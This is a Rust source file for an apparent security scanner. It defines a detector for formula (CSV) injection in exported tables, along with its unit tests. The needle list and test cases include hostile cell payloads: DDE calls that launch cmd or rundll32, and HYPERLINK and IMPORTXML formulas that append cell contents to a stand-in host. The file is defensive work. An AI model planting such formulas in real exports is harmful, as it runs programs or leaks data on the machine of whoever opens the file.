//! Formulas in what is opened as a table.
//!
//! **What it finds.** A cell that begins with a sign of a formula and starts a program (DDE, `=cmd|'/C …'!A0`, `CALL`,
//! `EXEC`), fetches from an address (`IMPORTXML`, `WEBSERVICE`), or hides an address that is made of other cells
//! (`HYPERLINK`).
//!
//! **Why it matters.** Whoever opens the exported table runs it: programs start, cells are sent away (CWE-1236).
//!
//! **Example.** `=cmd|'/C calc'!A0`
//!
//! Numbers, mail addresses, and formulas that only compute are left alone; a plain link is only mentioned.

use crate::{
    detector::{Detector, Finds, Hit, Outcome},
    text::View,
};
use palisade_model::Severity;

pub(crate) static FORMULA: Detector = Detector {
    class: "guard.injection.formula",
    version: "1",
    severity: Severity::High,
    title: "Formula in a cell",
    remediation: "Write an apostrophe before cells that begin with =, +, - or @ when a table is exported.",
    references: &["CWE-1236"],
    finds: Finds::Places {
        needles: &[
            b"|'",
            b"| '",
            b"dde(",
            b"ddeauto",
            b"hyperlink(",
            b"importxml(",
            b"importdata(",
            b"importhtml(",
            b"importfeed(",
            b"importrange(",
            b"webservice(",
            b"=image(",
            b"=call(",
            b"=exec(",
            b"register.id(",
            b"=fopen(",
            b"+exec(",
            b"@exec(",
            b"-exec(",
            b"rtd(",
        ],
        confirm,
    },
};

/// Bytes of a cell before and after what it calls; formulas that attack are short.
const CELL_BYTES_MAX: usize = 256;

fn confirm(view: &View<'_>, at: usize) -> Outcome {
    let bytes = view.bytes();
    let Some(start) = cell_start(bytes, at) else { return Outcome::Clean { until: at + 1 } };
    let end = at + bytes[at..].iter().take(CELL_BYTES_MAX).take_while(|byte| !matches!(byte, b'\n' | b'\r')).count();
    let end = view.slice(0..bytes.len()).floor_char_boundary(end);
    let cell = &bytes[start..end];
    let called = &bytes[at..end];
    let Some(confidence) = judge(&bytes[start..at], called, cell) else { return Outcome::Clean { until: at + 1 } };
    let hit = Hit::text(start..end, None, confidence, "The cell is a formula that acts when the table is opened.");
    Outcome::Found(if confidence < 0.7 { hit.rated(Severity::Low) } else { hit })
}

/// Where the cell of the call at `at` begins with a sign of a formula: at the text's or the line's beginning, or
/// behind a separator.
fn cell_start(bytes: &[u8], at: usize) -> Option<usize> {
    let low = at.saturating_sub(CELL_BYTES_MAX);
    // The sign may be a part of the needle.
    let window = &bytes[low..=at];
    let line = window.iter().rposition(|byte| matches!(byte, b'\n' | b'\r')).map_or(0, |end| end + 1);
    let begins = |place: usize| {
        let rest = &window[place..];
        let signs = rest.iter().take_while(|byte| matches!(byte, b'=' | b'+' | b'-' | b'@' | b' ')).count();
        let sign = matches!(rest.first(), Some(b'=' | b'+' | b'-' | b'@'));
        let after = bytes.get(low + place + signs);
        sign && signs <= 4 && after.is_some_and(|byte| byte.is_ascii_alphanumeric() || b"(\"'".contains(byte))
    };
    let first = line + window[line..].iter().take_while(|byte| b" \t\"';,".contains(byte)).count();
    let at_line = (low + line == 0 || line > 0) && first < window.len() && begins(first);
    if at_line {
        return Some(low + first);
    }
    let separated = |place: &usize| b",;\t\"".contains(&window[place - 1]) && begins(*place);
    (line + 1..window.len()).find(separated).map(|place| low + place)
}

/// How sure it is that the formula that begins with `before` and goes on with `called` attacks.
fn judge(before: &[u8], called: &[u8], cell: &[u8]) -> Option<f64> {
    if called.starts_with(b"|") {
        return exchanges(before, called).then_some(0.93);
    }
    let lower = called.to_ascii_lowercase();
    let has = |words: &[&[u8]]| words.iter().any(|word| memchr::memmem::find(&lower, word).is_some());
    let name = lower.strip_prefix(b"=").or(lower.strip_prefix(b"+")).or(lower.strip_prefix(b"@")).unwrap_or(&lower);
    let address = has(&[b"://", b"\\\\"]);
    let gathers = cell.contains(&b'&') || has(&[b"concat", b"char("]);
    let closed = called.contains(&b')');
    Some(match name {
        _ if name.starts_with(b"dde") => 0.9,
        _ if name.starts_with(b"exec(") || name.starts_with(b"call(") || name.starts_with(b"register.id(") => {
            if called.contains(&b'"') { 0.88 } else { return None }
        }
        _ if name.starts_with(b"fopen(") => 0.7,
        _ if name.starts_with(b"hyperlink(") && address && gathers => 0.88,
        _ if name.starts_with(b"hyperlink(") && address && closed => 0.5,
        _ if (name.starts_with(b"import") || name.starts_with(b"webservice(") || name.starts_with(b"image("))
            && (address || gathers) =>
        {
            if gathers || name.starts_with(b"webservice(") || name.starts_with(b"importxml(") { 0.88 } else { 0.82 }
        }
        _ if name.starts_with(b"rtd(") && closed && called.contains(&b'"') => 0.7,
        _ => return None,
    })
}

/// True for dynamic data exchange: a program, a topic in quotes, and a cell.
fn exchanges(before: &[u8], called: &[u8]) -> bool {
    let program = before.iter().rev().take_while(|byte| byte.is_ascii_alphanumeric() || **byte == b'.').count();
    let Some(open) = memchr::memchr(b'\'', called) else { return false };
    let topic = &called[open + 1..];
    let mut quotes = memchr::memchr_iter(b'\'', topic);
    program >= 2 && quotes.any(|close| topic[close + 1..].trim_ascii_start().starts_with(b"!"))
}

#[cfg(test)]
mod tests {
    use crate::testing::check;

    #[test]
    fn formula() {
        check(
            "guard.injection.formula",
            &[
                ("=cmd|'/C calc'!A0", 0..17),
                ("Anna,@SUM(1+1)*cmd|' /C calc'!A0", 5..32),
                ("+rundll32|'url.dll,OpenURL x'!A", 0..31),
                ("=HYPERLINK(\"https://x.example/?a=\"&A1,\"open\")", 0..45),
                ("=IMPORTXML(CONCAT(\"https://x.example/\",A2),\"//a\")", 0..49),
                ("name\n=WEBSERVICE(\"https://x.example/\")", 5..38),
                ("=DDE(\"cmd\";\"/C calc\";\"a\")", 0..25),
            ],
            &[
                "=SUM(A1:A9)",
                "-5,+49 30 1234,@anna,=1",
                "Use `=HYPERLINK(A1)` to make a link",
                "grep -c 'a'|'b'",
                "let link = hyperlink(address)",
                "x | 'y'",
                "-call('a')",
            ],
        );
    }
}
